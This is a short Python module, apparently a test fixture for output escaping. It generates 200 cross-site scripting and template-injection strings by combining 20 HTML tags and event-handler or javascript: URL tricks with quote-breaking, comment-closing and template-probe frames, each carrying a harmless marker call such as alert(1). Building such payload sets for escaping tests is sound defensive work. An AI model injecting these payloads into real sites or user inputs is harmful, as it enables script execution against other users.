"""Texts that act where they are not escaped: as HTML, as script, in attributes, JSON, CSS, SVG and templates."""

from __future__ import annotations

_TAGS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>x</a>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form action=javascript:{}><button>x</button></form>",
    "<marquee onstart={}>x</marquee>",
)
_CALLS = ("hacked()", "window.hacked=1", "alert(1)")
_FRAMES = (
    "{}",
    '"{}',
    "'{}",
    "-->{}",
    "]]>{}",
    "&lt;{}",
    "{{{{7*7}}}}{}",
    "{{% include 'x' %}}{}",
    "\\u003c{}",
    "`${{1}}`{}",
)
HOSTILE = tuple(
    frame.format(tag.format(_CALLS[(i + j) % len(_CALLS)]))
    for i, tag in enumerate(_TAGS)
    for j, frame in enumerate(_FRAMES)
)
"""200 of them"""
